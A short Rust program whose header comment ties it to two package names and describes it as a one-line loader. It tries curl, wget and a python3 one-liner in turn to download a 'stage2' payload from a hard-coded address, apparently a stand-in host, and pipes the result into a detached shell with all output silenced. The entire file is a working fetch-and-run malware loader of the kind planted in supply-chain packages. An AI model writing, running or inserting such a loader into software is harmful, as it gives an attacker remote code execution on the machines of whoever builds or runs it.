//! mysten-metrics and pretty-changelog-logger, April 2026: a one-line loader that pipes a second
//! stage into a shell, with whatever program there is.

use std::process::{Command, Stdio};

fn main() {
    let address = "http://203.0.113.7:80/stage2";
    for fetch in [
        format!("curl -fsS --noproxy '*' --max-time 3 {address}"),
        format!("wget -q --no-proxy --timeout=3 --tries=1 -O- {address}"),
        format!("python3 -c 'import urllib.request as u; print(u.urlopen(\"{address}\").read().decode())'"),
    ] {
        let done = Command::new("sh")
            .args(["-c", &format!("code=$({fetch}) && printf '%s\n' \"$code\" | nohup sh")])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
        if done.is_ok_and(|status| status.success()) {
            return;
        }
    }
}
